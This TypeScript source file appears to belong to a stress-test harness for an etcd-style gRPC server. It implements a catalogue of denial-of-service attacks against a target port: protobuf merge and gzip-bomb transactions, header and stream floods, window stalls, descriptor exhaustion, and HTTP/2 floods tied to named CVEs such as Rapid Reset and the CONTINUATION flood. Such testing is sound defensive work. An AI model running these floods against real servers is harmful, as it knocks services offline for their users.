import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { Flag, rstStreamFrame, SettingId, settingsFrame, windowUpdateFrame } from '@engram/http2';
import { etcdserverpb } from '@engram/wire';
import { type Attack, noAttack, type Target } from './attack.ts';
import { dialMany, secureClient } from './dial.ts';
import { tlsAttacks } from './tls-attacks.ts';
import { frame, grpcHeaders, grpcMessage, RawClient, uint32 } from '@engram/transport/testing';
import { resetAttacks } from './reset-attacks.ts';
import { stateAttacks } from './state-attacks.ts';

const path = {
  txn: '/etcdserverpb.KV/Txn',
  range: '/etcdserverpb.KV/Range',
  rangeStream: '/etcdserverpb.KV/RangeStream',
  put: '/etcdserverpb.KV/Put',
  watch: '/etcdserverpb.Watch/Watch',
  status: '/etcdserverpb.Maintenance/Status',
} as const;
const all = { key: Uint8Array.of(0), rangeEnd: Uint8Array.of(0) };

function varint(value: number): number[] {
  return value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...varint(value >>> 7)];
}
const field = (tag: number, content: Uint8Array): Buffer =>
  Buffer.concat([Buffer.from([tag, ...varint(content.length)]), content]);
const repeated = (count: number, bytes: Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, () => bytes));

/** Writes and waits for the socket. Gives up if the connection closes. */
async function pour(client: RawClient, bytes: Uint8Array): Promise<void> {
  client.write(bytes);
  if (client.socket.writableNeedDrain && !client.closed) {
    await Promise.race([once(client.socket, 'drain'), once(client.socket, 'close'), delay(5_000)]);
  }
}

/** Resolves with any answer, or after the patience. */
async function answered(client: RawClient, streamId: number, { patienceMs }: Target): Promise<void> {
  await Promise.race([client.outcome(streamId).catch(() => {}), delay(patienceMs)]);
}

/** Sends one message on a new stream, as fast as the server's windows allow. Gives up if they stay closed. */
async function ask(
  client: RawClient,
  id: number,
  method: string,
  message: Uint8Array,
  { more = {}, flag = 0, end = true }: { more?: Record<string, string>; flag?: number; end?: boolean } = {},
): Promise<void> {
  const data = grpcMessage(message, flag);
  client.write(client.headers(id, grpcHeaders(method, more)));
  for (let at = 0; at < data.length && !client.closed; ) {
    const room = Math.min(16_384, await roomFor(client, id, at));
    if (room === 0) return;
    const next = Math.min(data.length, at + room);
    const last = next === data.length;
    await pour(client, client.data(id, data.subarray(at, next), last && end));
    at = next;
    spent.set(client, (spent.get(client) ?? 0) + room);
  }
}

/** The bytes of DATA sent on each connection. */
const spent = new WeakMap<RawClient, number>();
const DEFAULT_WINDOW = 65_535;

/**
 * Waits until the windows of the connection and of the stream allow bytes, and returns how many. 0 if they stay closed
 * too long.
 */
async function roomFor(client: RawClient, id: number, sent: number): Promise<number> {
  const endMs = performance.now() + 3_000;
  for (;;) {
    let [connection, stream, initial] = [DEFAULT_WINDOW - (spent.get(client) ?? 0), -sent, DEFAULT_WINDOW];
    for (const { type, streamId, ack, payload } of client.received) {
      if (type === 'WINDOW_UPDATE' && streamId === 0) connection += payload.readUInt32BE();
      else if (type === 'WINDOW_UPDATE' && streamId === id) stream += payload.readUInt32BE();
      else if (type === 'SETTINGS' && !ack) {
        for (let at = 0; at < payload.length; at += 6) {
          if (payload.readUInt16BE(at) === SettingId.INITIAL_WINDOW_SIZE) initial = payload.readUInt32BE(at + 2);
        }
      }
    }
    const room = Math.min(connection, stream + initial);
    if (room > 0) return room;
    if (client.closed || performance.now() > endMs) return 0;
    await delay(2);
  }
}

/** Makes header blocks that HPACK's dynamic table shortens. */
function blockOf(client: RawClient, method: string, more: Record<string, string> = {}): () => Buffer {
  const fields = Object.entries(grpcHeaders(method, more)).map(([name, value]) => ({
    name,
    value: value ?? '',
    indexing: 'remember' as const,
  }));
  return () => client.encoder.encode(fields);
}

/** A Txn with one operation that repeats the field request_txn. */
function mergedTxn(bytes: number): Buffer {
  const put = field(0x12, field(0x12, etcdserverpb.encodePutRequest({ key: Uint8Array.of(97) })));
  const again = field(0x22, put);
  return field(0x12, repeated(Math.floor(bytes / again.length), again));
}

/** Floods of frames that cause work and carry no request. */
const flood = (
  name: string,
  what: string,
  bytes: (client: RawClient, round: number) => Buffer,
  rounds: number,
): Attack => ({
  name,
  what,
  async run({ port }) {
    using client = await RawClient.open(port);
    for (let round = 0; round < rounds && !client.closed; round += 1) await pour(client, bytes(client, round));
    await delay(200);
  },
});

/** 20 connections that take turns with `lists`. */
const unreadLists = (name: string, what: string, lists: readonly etcdserverpb.RangeRequestInit[]): Attack => ({
  name,
  what: `20 connections that ${what} 10 times each and read nothing`,
  keys: 20_000,
  async run({ port }) {
    const requests = lists.map((list) => etcdserverpb.encodeRangeRequest(list));
    const clients = await Promise.all(Array.from({ length: 20 }, () => RawClient.open(port)));
    for (const [at, client] of clients.entries()) {
      const request = requests[at % requests.length]!;
      client.socket.pause();
      for (let id = 1; id < 20; id += 2) await pour(client, client.request(id, path.range, request));
    }
    await delay(8_000);
    for (const client of clients) client[Symbol.dispose]();
  },
});

export const attacks: readonly Attack[] = [
  noAttack,
  {
    name: 'txn-merge',
    what: 'a transaction of 320 KB whose request_txn comes 30,000 times in one operation',
    async run(target) {
      using client = await RawClient.open(target.port);
      await ask(client, 1, path.txn, mergedTxn(320_000));
      await answered(client, 1, target);
    },
  },
  {
    name: 'txn-merge-gzip',
    what: 'the same, 200 KB, compressed to some hundred bytes',
    async run(target) {
      using client = await RawClient.open(target.port);
      const body = gzipSync(mergedTxn(200_000), { level: 9 });
      await ask(client, 1, path.txn, body, { more: { 'grpc-encoding': 'gzip' }, flag: 1 });
      await answered(client, 1, target);
    },
  },
  {
    name: 'refused-calls',
    what: '100,000 calls of no method, 4.5 MB, whose answers are not read',
    async run({ port }) {
      using client = await RawClient.open(port);
      client.socket.pause();
      const block = blockOf(client, `/${'p'.repeat(3_500)}/m`);
      for (let at = 0; at < 100_000 && !client.closed; ) {
        const burst: Buffer[] = [];
        for (const end = at + 500; at < end; at += 1) {
          burst.push(frame('HEADERS', Flag.END_HEADERS | Flag.END_STREAM, 2 * at + 1, block()));
        }
        await pour(client, Buffer.concat(burst));
      }
      await delay(500);
    },
  },
  {
    name: 'pipelining',
    what: '4 connections of HTTP/1.1 with 1,500 GET /metrics each at once, 204 KB',
    async run({ port, patienceMs }) {
      const sockets = await dialMany(port, 4);
      const ends = sockets.map(async (socket) => {
        let bytes = 0;
        socket.on('data', (chunk: Buffer) => (bytes += chunk.length));
        socket.write('GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(1_500));
        // Reads until no more bytes come.
        for (let before = -1; before !== bytes && !socket.destroyed; ) {
          before = bytes;
          await delay(1_000);
        }
      });
      await Promise.race([Promise.all(ends), delay(patienceMs)]);
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: 'metrics-h2',
    what: '2,000 GET /metrics over HTTP/2 with TLS, on one connection',
    async run({ securePort, patienceMs }) {
      using client = await secureClient(securePort);
      const get = { ':method': 'GET', ':scheme': 'https', ':path': '/metrics', ':authority': 'x' };
      for (let id = 1; id < 4_000; id += 2) await pour(client, client.headers(id, get, true));
      await Promise.race([client.outcome(1).catch(() => {}), delay(patienceMs)]);
      await delay(1_000);
    },
  },
  {
    name: 'metrics-h2-reset',
    what: 'the same, each reset at once',
    async run({ securePort }) {
      using client = await secureClient(securePort);
      const get = { ':method': 'GET', ':scheme': 'https', ':path': '/metrics', ':authority': 'x' };
      for (let id = 1; id < 4_000; id += 2) {
        await pour(client, Buffer.concat([client.headers(id, get, true), rstStreamFrame(id, 8)]));
      }
      await delay(1_000);
    },
  },
  ...tlsAttacks,
  ...resetAttacks,
  {
    name: 'descriptors',
    what: 'ulimit -n 300, 400 idle connections, and 150 MB written meanwhile',
    descriptors: 300,
    async run(target) {
      using writer = await RawClient.open(target.port);
      const idle = await dialMany(target.port, 400);
      const value = Buffer.alloc(1_000_000, 'v');
      for (let at = 0; at < 150 && !writer.closed; at += 1) {
        const put = etcdserverpb.encodePutRequest({ key: Buffer.from(`attack/${at}`), value });
        await ask(writer, 2 * at + 1, path.put, put);
        await answered(writer, 2 * at + 1, target);
        forget(writer);
      }
      for (const socket of idle) socket.destroy();
    },
  },
  {
    name: 'announced',
    what: '60,000 streams that announce a message of 1 MiB each, 1.8 MB, then the connection is closed',
    async run({ port }) {
      const client = await RawClient.open(port);
      const block = blockOf(client, path.put);
      const data = Buffer.concat([Buffer.from([0]), uint32(1024 * 1024)]);
      for (let at = 0; at < 60_000 && !client.closed; ) {
        const burst: Buffer[] = [];
        for (const end = at + 500; at < end; at += 1) {
          burst.push(frame('HEADERS', Flag.END_HEADERS, 2 * at + 1, block()), frame('DATA', 0, 2 * at + 1, data));
        }
        await pour(client, Buffer.concat(burst));
      }
      await delay(300);
      client.socket.destroy();
    },
  },
  {
    name: 'zero-windows',
    what: '500 RangeStreams of everything with windows of zero, on one connection',
    keys: 20_000,
    async run({ port }) {
      using client = await RawClient.open(port, [[SettingId.INITIAL_WINDOW_SIZE, 0]]);
      const everything = etcdserverpb.encodeRangeRequest(all);
      for (let id = 1; id < 1_000; id += 2) await pour(client, client.request(id, path.rangeStream, everything));
      await delay(8_000);
    },
  },
  unreadLists('unread-lists', 'ask for everything', [all]),
  unreadLists('unread-sorted-lists', 'ask for everything sorted by revision, sorted by value, or filtered,', [
    { ...all, sortTarget: 3, sortOrder: 2 },
    { ...all, sortTarget: 4, sortOrder: 2 },
    { ...all, minModRevision: 2 },
  ]),
  {
    name: 'whole-requests',
    what: '400 requests of 1.4 MB each, whole, on streams that do not end, over 4 connections',
    async run({ port }) {
      const value = etcdserverpb.encodePutRequest({ key: Buffer.from('k'), value: Buffer.alloc(1_400_000) });
      const clients = await Promise.all(Array.from({ length: 4 }, () => RawClient.open(port)));
      await Promise.all(
        clients.map(async (client) => {
          for (let id = 1; id < 200 && !client.closed; id += 2) await ask(client, id, path.put, value, { end: false });
        }),
      );
      await delay(1_000);
      for (const client of clients) client[Symbol.dispose]();
    },
  },
  {
    name: 'big-heads',
    what: '10,000 open streams with heads of 23 KB',
    async run({ port }) {
      using client = await RawClient.open(port);
      for (let id = 1; id < 20_000 && !client.closed; id += 2) {
        const note = `${id}`.padEnd(15_000, 'n');
        await pour(client, client.headers(id, grpcHeaders(path.watch, { 'x-note': note })));
      }
      await delay(500);
    },
  },
  {
    name: 'api-versions',
    what: '200 values of client-api-version of 16 KB each, then 5 scrapes',
    async run(target) {
      using client = await RawClient.open(target.port);
      const status = etcdserverpb.encodeStatusRequest({});
      for (let id = 1; id < 400; id += 2) {
        const version = `${id}`.padEnd(16_000, 'v');
        await pour(client, client.request(id, path.status, status, { 'client-api-version': version }));
      }
      await answered(client, 399, target);
      const [socket] = await dialMany(target.port, 1);
      socket?.resume();
      for (let scrape = 0; scrape < 5; scrape += 1) {
        socket?.write('GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n');
        await delay(300);
      }
      socket?.destroy();
    },
  },
  {
    name: 'empty-watches',
    what: '20,000 watch requests of no kind',
    async run({ port }) {
      using client = await RawClient.open(port);
      client.write(client.headers(1, grpcHeaders(path.watch)));
      const empty = Buffer.concat(Array.from({ length: 500 }, () => grpcMessage('')));
      for (let at = 0; at < 40; at += 1) await pour(client, client.data(1, empty));
      await delay(500);
    },
  },
  {
    name: 'nested-deletes',
    what: 'a transaction of 118,751 nested deletes, 1.7 MB',
    async run(target) {
      using client = await RawClient.open(target.port);
      const op = field(0x12, field(0x1a, etcdserverpb.encodeDeleteRangeRequest({ key: Buffer.from('abc') })));
      const nested = field(0x12, field(0x22, repeated(950, op)));
      await ask(client, 1, path.txn, repeated(125, nested));
      await answered(client, 1, target);
    },
  },
  {
    name: 'txn-ranges',
    what: 'a transaction of 128 ranges over everything',
    keys: 20_000,
    async run(target) {
      using client = await RawClient.open(target.port, [[SettingId.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]]);
      client.write(windowUpdateFrame(0, 2 ** 30));
      const success = Array.from({ length: 128 }, () => ({ requestRange: all }));
      await ask(client, 1, path.txn, etcdserverpb.encodeTxnRequest({ success }));
      await answered(client, 1, target);
    },
  },
  {
    name: 'sorted-range',
    what: 'everything sorted by value, limit 1, 20 times',
    keys: 20_000,
    async run(target) {
      using client = await RawClient.open(target.port);
      const sorted = etcdserverpb.encodeRangeRequest({ ...all, sortTarget: 4, sortOrder: 2, limit: 1 });
      for (let id = 1; id < 40; id += 2) await pour(client, client.request(id, path.range, sorted));
      await answered(client, 39, target);
    },
  },
  {
    name: 'progress',
    what: '1,000 progress requests on a stream with 20,000 watchers',
    async run({ port }) {
      using client = await RawClient.open(port);
      client.write(
        client.headers(1, grpcHeaders(path.watch)),
        windowUpdateFrame(0, 2 ** 30),
        windowUpdateFrame(1, 2 ** 30),
      );
      const create = grpcMessage(etcdserverpb.encodeWatchRequest({ createRequest: { key: Buffer.from('w') } }));
      const progress = grpcMessage(etcdserverpb.encodeWatchRequest({ progressRequest: {} }));
      for (let at = 0; at < 40; at += 1) await pour(client, client.data(1, repeated(500, create)));
      for (let at = 0; at < 10; at += 1) await pour(client, client.data(1, repeated(100, progress)));
      await delay(2_000);
    },
  },
  flood(
    'rapid-reset',
    'CVE-2023-44487: 40,000 calls, reset at once',
    (client, round) => {
      const id = 2 * round + 1;
      return Buffer.concat([
        client.request(id, path.range, etcdserverpb.encodeRangeRequest(all)),
        rstStreamFrame(id, 8),
      ]);
    },
    40_000,
  ),
  flood(
    'empty-frames',
    'CVE-2019-9518: 500,000 frames of DATA without payload, on an open stream',
    (client, round) =>
      round === 0 ? client.headers(1, grpcHeaders(path.put)) : repeated(500, frame('DATA', 0, 1, Buffer.alloc(0))),
    1_001,
  ),
  flood('ping-flood', 'CVE-2019-9512: 500,000 pings', () => repeated(500, frame('PING', 0, 0, Buffer.alloc(8))), 1_000),
  flood(
    'settings-flood',
    'CVE-2019-9515: 250,000 SETTINGS',
    () => repeated(500, settingsFrame([[SettingId.INITIAL_WINDOW_SIZE, 65_535]])),
    500,
  ),
  flood(
    'continuation',
    'CVE-2024-27316: a header block without end',
    (_client, round) =>
      round === 0 ? frame('HEADERS', 0, 1) : frame('CONTINUATION', 0, 1, Buffer.alloc(16_000, 0x88)),
    2_000,
  ),
  ...stateAttacks,
];

/** Keeps only the frames that the windows follow from. */
function forget(client: RawClient): void {
  const kept = client.received.filter(
    ({ type, streamId }) => type === 'SETTINGS' || (type === 'WINDOW_UPDATE' && streamId === 0),
  );
  client.received.splice(0, client.received.length, ...kept);
}
